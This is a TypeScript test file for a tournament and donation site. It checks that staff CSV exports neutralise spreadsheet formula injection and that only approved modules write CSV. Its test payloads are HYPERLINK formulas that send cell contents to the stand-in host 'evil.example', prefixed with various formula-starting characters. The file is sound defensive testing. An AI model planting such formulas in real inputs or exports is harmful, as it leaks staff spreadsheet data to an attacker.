import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import type { MonthlyGift, Order } from "~/db/schema";
import { donationsCsv } from "~/features/donations/donation-csv";
import { monthlyGiftRowsCsv } from "~/features/donations/monthly/admin.server";
import { entriesCsv, ordersCsv } from "~/features/orders/order-csv";

/**
 * Decision 0042: every staff CSV, read back as a spreadsheet reads it, has no cell that starts a
 * formula, whatever the public typed: each export gets a formula behind each of the starting characters, with a line
 * break (LF, U+2028, U+2029) after it that the CSV library's own pattern let through.
 */
const starts = ["=", "+", "-", "@", "\t", "\r", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"];
const breaks = ["\n", "\u2028", "\u2029"];
const payloads = starts.flatMap((start) =>
  breaks.map((lineBreak) => `${start}HYPERLINK("https://evil.example/?leak="&D3&"-"&E3,"Roster help${lineBreak}")`),
);

const order = (text: string): Order => ({
  id: "6f1c1f43-5d4e-4a57-8a55-0c6f0f1d2a11",
  createdAt: new Date("2026-11-02T15:30:00Z"),
  itemName: text,
  itemDescription: text,
  itemQuantity: 1,
  studentName: text,
  studentSchool: text,
  tournamentName: text,
  tournamentDate: "2026-12-13",
  eventType: text,
  totalAmount: 2500,
  customerEmail: text,
  status: "completed",
  checkoutId: null,
  productId: null,
  registration: null,
  refundedAmount: 0,
  disputedAmount: 0,
  disputeLostAmount: 0,
  campaignId: null,
  tournamentKey: null,
  droppedAt: null,
  entryCode: null,
});

const gift = (text: string): MonthlyGift => ({
  id: "9a1c1f43-5d4e-4a57-8a55-0c6f0f1d2a11",
  provider: "sandbox",
  providerSubscriptionId: null,
  providerCustomerId: null,
  firstCheckoutId: null,
  email: text,
  firstName: text,
  lastName: text,
  amountCents: 1000,
  feeCents: 0,
  details: {},
  status: "active",
  manageTokenHash: "x",
  startedAt: new Date("2026-11-02T15:30:00Z"),
  nextChargeAt: null,
  canceledAt: null,
  providerStateAt: null,
  lastFailureNotice: null,
  createdAt: new Date("2026-11-02T15:30:00Z"),
  updatedAt: new Date("2026-11-02T15:30:00Z"),
});

const exports: Record<string, (text: string) => string> = {
  orders: (text) => ordersCsv([order(text)]),
  entries: (text) => entriesCsv([order(text)]),
  donations: (text) => donationsCsv([{ ...order(text), campaignName: text }]),
  "monthly gifts": (text) => monthlyGiftRowsCsv([gift(text)]),
};

/** A cell a spreadsheet would run: its first character starts a formula. */
const live = (cell: string) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell);

describe("every staff CSV neutralises formulas from the public", () => {
  for (const [name, csv] of Object.entries(exports)) {
    it(`${name}: no cell starts a formula, and the typed text is kept after the quote`, () => {
      for (const payload of payloads) {
        const [, ...rows] = Papa.parse<string[]>(csv(payload)).data;
        const cells = rows.flat();
        expect({ payload, live: cells.filter(live) }).toEqual({ payload, live: [] });
        expect(cells.some((cell) => cell === `'${payload}` || cell.startsWith(`'${payload}`))).toBe(true);
      }
    });
  }
});

describe("every CSV the site writes goes through toCsv", () => {
  it("no module but app/core/csv.ts writes CSV itself (Papa.unparse, a text/csv response)", () => {
    const root = path.resolve(import.meta.dirname, "../..");
    const writers: string[] = [];
    const walk = (dir: string) => {
      for (const item of readdirSync(dir, { withFileTypes: true })) {
        const full = path.join(dir, item.name);
        if (item.isDirectory()) walk(full);
        else if (/\.[cm]?[jt]sx?$/.test(item.name) && !/\.test\./.test(item.name)) {
          const text = readFileSync(full, "utf8");
          if (/\bunparse\s*\(|["']text\/csv/.test(text)) writers.push(path.relative(root, full));
        }
      }
    };
    walk(path.join(root, "app"));
    walk(path.join(root, "server"));
    // The events sheet's source only asks for CSV (an Accept header); it writes none. Tabroom's files have their own
    // writer (ASCII, no byte-order mark: Tabroom's importer reads them, decisions 0045 and 0046), unguarded on purpose:
    // registration and the judge form refuse a name that begins with =, +, - or @, and the entry files leave out an
    // older one for staff to correct; the judge file guards its own cells (app/features/judges/judge-file.test.ts).
    expect(
      writers.filter(
        (file) =>
          file !== "app/features/events/sheet-source.server.ts" &&
          file !== "app/routes/admin/tournament-tabroom-csv.ts",
      ),
    ).toEqual(["app/core/csv.ts", "app/features/tabroom/csv.ts"]);
  });
});
